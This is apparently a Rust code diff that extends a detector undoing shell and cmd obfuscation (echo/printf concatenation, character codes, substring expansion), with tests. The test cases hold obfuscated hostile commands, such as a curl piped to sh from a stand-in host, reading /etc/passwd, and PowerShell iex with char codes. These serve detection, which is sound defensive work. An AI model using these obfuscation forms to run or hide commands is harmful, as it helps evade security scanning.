@@ -13,9 +13,10 @@ mod substring;
 mod variables;
 
 use super::characters::Characters;
-use super::normalise::{FIELD_LIMIT, end_of};
+use super::normalise::end_of;
 use super::note::Notes;
 use super::platform::PlatformSet;
+use crate::reading::FIELD_LIMIT;
 use memchr::{memchr_iter, memchr2};
 
 /// `tidy` with what its interpreter would undo undone; `None` if there is nothing. `lower` is `tidy` in lower case and
@@ -32,7 +33,7 @@ pub(super) fn undone(
     if bytes.has(b'\\') && (escapes_something(lower) || bytes.all(b"$'") && has("$'")) {
         text.step(|text| characters::escapes(text, notes));
     }
-    if bytes.has(b'(') && has("chr") || (bytes.has(b'[') || bytes.has(b'(')) && has("char") {
+    if bytes.has(b'(') && (has("chr") || has("getstring")) || (bytes.has(b'[') || bytes.has(b'(')) && has("char") {
         text.step(|text| characters::numbered(text, notes));
     }
     if bytes.has(b'[') && bytes.has(b'$') || bytes.has(b'~') && has(":~") {
@@ -63,6 +64,9 @@ pub(super) fn undone(
     if systems.overlaps(PlatformSet::UNIX) {
         if bytes.has(b'{') && bytes.has(b',') {
             text.step(|text| shell::without_braces(text, notes));
+        }
+        if (bytes.has(b'`') || bytes.all(b"$(")) && (has("echo ") || has("printf ")) {
+            text.step(|text| shell::without_echoes(text, notes));
         }
         if bytes.has(b'\\') {
             text.step(|text| shell::without_backslashes(text, notes));
@@ -193,6 +197,13 @@ mod tests {
             ("{curl,-s,http://x/y}|sh", "curl -s http://x/y|sh", Note::Brace),
             (r"c\at /e\tc/p\asswd", "cat /etc/passwd", Note::Backslash),
             (r"\w\h\o\a\m\i", "whoami", Note::Backslash),
+            ("$(echo cu)rl -s; `printf 'ca't`", "curl -s", Note::Concat),
+            (r"$(printf '\x63\x75\x72\x6c') -s", "curl -s", Note::Concat),
+            ("iex([text.encoding]::ascii.getstring((119,104,111,97,109,105)))", "whoami", Note::Chars),
+            ("cmd /c \"set x=whoamiz&& call %x:~0,6%\"", "call whoami", Note::Substring),
+            ("cmd /v /c \"set a=xxwhoami&&!a:~2!\"", "&&whoami", Note::Substring),
+            ("cmd /c \"set a=whoQQi&& call %a:QQ=am%\"", "call whoami", Note::Substring),
+            ("a=xcurlx;${a:1:4} -s", ";curl -s", Note::Substring),
         ] {
             let (text, notes) = meant(written);
             assert!(text.contains(hidden), "{written}\n{text}");
@@ -215,6 +226,8 @@ mod tests {
             "FOO=bar make install",
             "cd /srv/reviews | revive",
             "for /f %i in ('date /t') do echo %date:~0,4%",
+            "set d=%date:~-4%& echo %d:~0,2%",
+            "V=1.2.3; echo ${V:0:1}; echo $(echo $V) `date`",
         ] {
             let mut notes = Notes::default();
             let _ = undone_of(written, PlatformSet::ALL, &mut notes);
